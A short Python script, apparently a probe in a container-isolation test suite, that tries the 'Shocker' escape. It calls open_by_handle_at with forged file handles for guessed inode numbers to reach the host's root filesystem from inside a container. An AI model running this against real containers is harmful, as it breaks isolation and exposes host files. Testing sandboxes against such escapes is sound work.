# "Shocker": open_by_handle_at takes the number of a file's inode. Two is the root of most disks, whoever mounted it.
import ctypes
import os

from kit import attempt, finish, syscall


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 8)]


for place in ("/etc/hostname", "/etc/resolv.conf", "/", "/work"):
    mount = os.open(place, os.O_RDONLY)
    for inode in (2, 1, 128, 256):
        handle = Handle(8, 1, (ctypes.c_ubyte * 8)(inode & 0xFF, inode >> 8))
        attempt(f"inode {inode} of {place}", lambda: syscall(304, mount, ctypes.byref(handle), 0))
    os.close(mount)
finish()
